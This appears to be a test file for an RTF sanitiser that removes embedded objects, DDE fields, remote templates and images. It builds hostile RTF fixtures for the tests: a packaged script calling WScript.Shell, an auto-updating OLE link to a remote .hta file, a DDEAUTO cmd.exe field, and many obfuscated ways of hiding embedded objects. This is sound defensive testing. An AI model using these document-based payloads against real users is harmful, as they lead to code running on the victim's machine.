// SPDX-FileCopyrightText: 2026 Document Gate contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

import { describe, expect, test } from 'vitest'
import { latin1 } from '../../../../src/bytes/text.ts'
import { formatKind } from '../../../../src/model/formats.ts'
import { rtf as disarmer } from '../../../../src/remedies/rtf/rtf.ts'
import { compoundFile, latin, linkedOle, ole1Embedded, ole1Linked, packagedFile, stream, urlMoniker } from '../../../make/ole.ts'
import { bytesOf, field, hex, object, rtf, scattered, shape } from '../../../make/rtf.ts'
import { disarmed, remedyContract, type DirtySample } from '../contract.ts'

const script = hex(ole1Embedded('Package', packagedFile({ fileName: 'invoice.js', content: latin('var shell = new ActiveXObject("WScript.Shell"); shell.Run("x");') })))
const remote = hex(ole1Embedded('OLE2Link', compoundFile([stream('\u0001Ole', linkedOle([urlMoniker('http://a.example/x.hta')]))])))
const link = hex(ole1Linked('Word.Document.8', 'http://a.example/x.doc', ''))
const png = '89504e470d0a1a0a0000000d49484452'

const sample = (pieces: string, gone: readonly string[], changes: readonly string[] = [], more: Partial<DirtySample> = {}): DirtySample => ({ name: 'a.rtf', bytes: rtf(`Before. ${pieces} After.\\par`), gone, changes, ...more })

remedyContract('rtf', {
	dirty: [
		{ ...sample(object({ data: script, className: 'Package' }), ['attached-file', 'embedded-program'], ['object']), name: 'package.rtf' },
		{ ...sample(object({ data: remote, words: '\\objautlink\\objupdate\\objw2000\\objh900' }), ['remote-object-update'], ['linked-object']), name: 'remote-object.rtf' },
		{ ...sample(object({ data: link, words: '\\objautlink' }), ['linked-object']), name: 'linked-object.rtf' },
		{ ...sample(field('DDEAUTO c:\\\\\\\\cmd.exe "/c calc"', 'last result'), ['dde-field'], ['dde']), name: 'dde.rtf' },
		{ ...sample(field('INCLUDEPICTURE "http://a.example/x.png"'), ['remote-image'], ['picture']), name: 'picture-field.rtf' },
		{ ...sample(shape({ shapeType: '75', pibName: 'http://a.example/x.png', pibFlags: '10' }), ['remote-image'], ['picture']), name: 'picture-shape.rtf' },
		{ ...sample(field('HYPERLINK "file:///c:/a.exe"', 'click'), ['program-link'], ['link']), name: 'link.rtf' },
		{ ...sample('{\\*\\template http://a.example/x.dotm}', ['remote-template'], ['template']), name: 'template.rtf' },
		{ ...sample(`{\\v hidden}{\\*\\atnid A}{\\*\\atnauthor Anna}\\chatn{\\*\\annotation remark}${object({ data: link })}{\\info{\\author Anna}{\\company Town}}`, ['hidden-text', 'comments', 'author-names', 'linked-object'], ['hidden-content', 'comment', 'author']), name: 'private.rtf', profile: 'private' },
	],
	clean: [
		{ name: 'plain.rtf', bytes: rtf('Hello \\b world\\b0 .\\par') },
		{ name: 'fields.rtf', bytes: rtf(`Page ${field('PAGE', '1')} and ${field('HYPERLINK "https://example.org/"', 'a page')}`) },
	],
})

const copyOf = (pieces: string, more: Partial<DirtySample> = {}): string => latin1(disarmed(sample(pieces + object({ data: link }), [], [], more)).copy)

describe('what comes along', () => {
	test.each<[string, string, string]>([
		['formatting', '{\\b bold}\\i0 x', '{\\b bold}\\i0 x'],
		['a page number', field('PAGE', '7'), '{\\field{\\*\\fldinst PAGE}{\\fldrslt{7}}}'],
		['a link to the web', field('HYPERLINK "https://example.org/ä"', 'page'), '{\\*\\fldinst HYPERLINK "https://example.org/\\u228 ?"}'],
		['a form field without its macro', '{\\field{\\*\\fldinst FORMTEXT {\\*\\formfield{\\fftype0{\\*\\ffname Name}{\\*\\ffentrymcr Run}}}}{\\fldrslt x}}', '{\\*\\formfield{\\fftype0{\\*\\ffname Name}}}'],
		['a picture', `{\\pict\\pngblip\\picw1\\pich1 ${png}}`, `{\\pict\\pngblip\\picw1\\pich1 ${png}}`],
		['raw data of a picture as digits', '{\\pict\\pngblip\\bin4 \u0089PNG}', '{\\pict\\pngblip 89504e47\n}'],
		['the words of a shape', '{\\shp{\\*\\shpinst{\\sp{\\sn shapeType}{\\sv 202}}{\\shptxt words}}}', '{\\shp{\\*\\shpinst{\\sp{\\sn shapeType}{\\sv 202}}{\\shptxt words}}}'],
		['bytes beyond ASCII as escapes', 'Gr\u00fc\u00dfe', "Gr\\'fc\\'dfe"],
		['a Unicode character and what stands for it', '\\u8364 ?uro', '\\u8364 ?uro'],
	])('%s', (_, pieces, expected) => {
		expect(copyOf(pieces)).toContain(expected)
	})
	test('the picture of an object stays where the object was', () => {
		const text = latin1(disarmed(sample(`{\\object\\objemb{\\*\\objdata ${script}}{\\result{\\pict\\pngblip ${png}}}}`, ['attached-file'])).copy)
		expect(text).toContain(`{{{\\pict\\pngblip ${png}}}}`.slice(1, -1))
		expect(text).not.toMatch(/objdata|\\object/)
	})
	test('an object without a picture becomes a placeholder of its size', () => {
		expect(latin1(disarmed(sample(object({ data: script, words: '\\objemb\\objw2000\\objh900' }), [])).copy)).toContain('\\picwgoal2000\\pichgoal900')
	})
})

describe('what stays behind', () => {
	test.each<[string, string, string]>([
		['an unknown destination', '{\\*\\unknown secret}', 'secret'],
		['a field that another one computes', `{\\field{\\*\\fldinst HYPERLINK ${field('QUOTE 104', 'h')}}{\\fldrslt words}}`, 'HYPERLINK'],
		['document variables', '{\\*\\docvar {a}{b secret}}', 'secret'],
		['a file table', '{\\*\\filetbl{\\file secret.doc}}', 'secret'],
		['HTML beside the text', '{\\*\\htmltag64 <script>secret</script>}', 'secret'],
		['raw data outside of pictures', '\\bin6 secret', 'secret'],
		['a parameter beyond every number', '\\li123456789012 x', '123456'],
		['a list that old readers trust', '{\\shp{\\*\\shpinst{\\sp{\\sn pFragments}{\\sv 1;4;010203}}}}', 'pFragments'],
		['a file in place of a picture', `{\\pict\\pngblip ${hex(compoundFile([stream('a', latin('b'))]))}}`, 'd0cf11'],
		['a script of a shape', shape({ wzScript: 'secret' }), 'secret'],
	])('%s', (_, pieces, gone) => {
		expect(copyOf(pieces)).not.toContain(gone)
	})
	test('what stands before and behind the document', () => {
		const bytes = bytesOf(`\u0000\u0000 {\\rt${object({ data: link })}words\\par}secret{\\rtf1 secret}`)
		expect(latin1(disarmed({ name: 'a.rtf', bytes, gone: [] }).copy)).toMatch(/^\{\\rtf1[^]*words\\par\}$/)
	})
	test('braces are made whole', () => {
		expect(latin1(disarmed({ name: 'a.rtf', bytes: bytesOf(`{\\rtf1 {\\b words ${object({ data: link })}`), gone: [] }).copy)).toMatch(/\}\}$/)
	})
	test('words do not grow together', () => {
		expect(copyOf('\\b{\\*\\unknown x}old')).toContain('\\b old')
	})
})

describe('objects in every disguise are gone', () => {
	test.each<[string, string]>([
		['without a star', `{\\object\\objemb{\\objdata ${script}}}`],
		['without an object around', `{\\*\\objdata ${script}}`],
		['in the group of the object itself', `{\\object\\objemb\\objdata ${script}}`],
		['in an unknown destination', `{\\*\\unknown {\\object{\\*\\objdata ${script}}}}`],
		['in a font table', `{\\fonttbl{\\f0 Arial;}{\\object{\\*\\objdata ${script}}}}`],
		['in a field result', `{\\field{\\*\\fldinst EMBED Package}{\\fldrslt{\\object{\\*\\objdata ${script}}}}}`],
		['in binary data that is none', `\\bin${script.length + 30} {\\object{\\*\\objdata ${script}}}   `],
		['inside the data of another object', `{\\object{\\*\\objdata 0105{\\object{\\*\\objdata ${script}}}}}`],
		['never closed', `{\\object{\\*\\objdata ${script}`],
		['white space between star and word', `{\\object{ \\* \\objdata ${script}}}`],
		['behind a word that is too long', `{\\object\\${'a'.repeat(300)}{\\*\\objdata ${script}}}`],
		['in the result of another object', `{\\object\\objemb{\\*\\objdata 01}{\\result{\\object{\\*\\objdata ${script}}}}}`],
		['scattered', `{\\object{\\*\\objdata ${scattered(script, '\\par ', 32)}}}`],
		['behind a Unicode character', `\\uc3\\u1234 a{\\object{\\*\\objdata ${script}}}`],
		['in place of what stands for a Unicode character', `\\uc2\\u1234 \\object\\objdata ${script}`],
	])('%s', (_, text) => {
		const { result, copy } = disarmed({ name: 'a.rtf', bytes: bytesOf(`{\\rtf1 ${text}${object({ data: link })}}`), gone: [] })
		expect(result.report.inspection?.traits.filter((trait) => trait.startsWith('embedded'))).toEqual([])
		expect(latin1(copy)).not.toMatch(/objdata/)
	})
})

test('recorded changes are accepted or undone', () => {
	const pieces = '{\\revised new }{\\deleted old }'
	expect(copyOf(pieces, { profile: 'private', trackedChanges: 'accept' })).toMatch(/new(?![^]*old)/)
	expect(copyOf(pieces, { profile: 'private', trackedChanges: 'reject' })).toMatch(/old(?![^]*new)/)
})

test('handles RTF and nothing else', () => {
	expect(disarmer.handles(formatKind('rtf'))).toBe(true)
	expect(disarmer.handles(formatKind('pdf'))).toBe(false)
})
